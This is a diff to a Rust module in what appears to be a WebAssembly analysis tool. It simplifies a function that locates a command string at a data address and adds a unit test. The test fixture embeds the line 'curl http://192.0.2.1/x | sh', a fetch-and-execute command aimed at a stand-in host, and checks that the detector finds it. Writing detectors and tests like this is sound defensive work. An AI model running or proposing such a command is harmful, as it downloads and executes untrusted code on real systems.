@@ -55,13 +55,41 @@ pub(super) fn lack(code: &Code<'_>) -> Option<String> {
 
 /// The command that lies at an address before anything runs, if one does.
 fn command_at(facts: &Facts<'_>, address: u64) -> Option<String> {
-    let segment = facts.view.data.iter().find_map(|segment| {
-        let at = address.checked_sub(segment.address?).filter(|at| *at < segment.size)?;
-        let start = usize::try_from(segment.offset.checked_add(at)?).ok()?;
-        let len = usize::try_from(segment.size - at).ok()?.min(LINE);
-        facts.wasm.get(start..start.checked_add(len)?)
-    })?;
-    let line = segment.split(|byte| *byte == 0).next()?;
+    let data = facts.view.data_at(facts.wasm, address)?;
+    let data = data.get(..LINE).unwrap_or(data);
+    let line = data.split(|byte| *byte == 0).next()?;
     let returned = Returned::of(line.to_vec()).filter(|found| found.contents == Contents::Command)?;
     String::from_utf8(returned.bytes).ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{module::view::View, passes::Dynamic, verdict::weights::Weighed};
+
+    #[test]
+    fn a_command_is_found_at_its_address_and_nowhere_else() {
+        let module = |address: u32| {
+            let text = format!(
+                r#"(module (memory 1) (data (i32.const 64) "nothing\00curl http://192.0.2.1/x | sh\00")
+                    (func (export "f") (result i32) (i32.const {address})))"#
+            );
+            wat::parse_str(text).expect("a module")
+        };
+        for (address, is_one) in [(72, true), (64, false), (0, false), (99, false), (500, false)] {
+            let wasm = module(address);
+            let (view, dynamic) = (View::of(&wasm), Dynamic::default());
+            let facts = Facts {
+                wasm: &wasm,
+                view: &view,
+                run: None,
+                dynamic: &dynamic,
+                prediction: None,
+                flows: None,
+            };
+            let weighed = Weighed::from(&facts);
+            let found = lack(&Code::of(&weighed));
+            assert_eq!(found.is_some(), is_one, "{address}: {found:?}");
+        }
+    }
 }
